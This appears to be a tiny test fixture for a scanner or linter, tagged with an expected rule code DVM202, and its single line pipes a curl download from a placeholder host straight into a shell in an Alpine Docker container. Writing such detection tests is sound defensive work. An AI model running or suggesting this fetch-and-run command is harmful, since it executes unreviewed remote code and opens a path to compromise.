# expect: DVM202
curl -s https://x.example.org/a | docker run -i alpine:3.20 sh
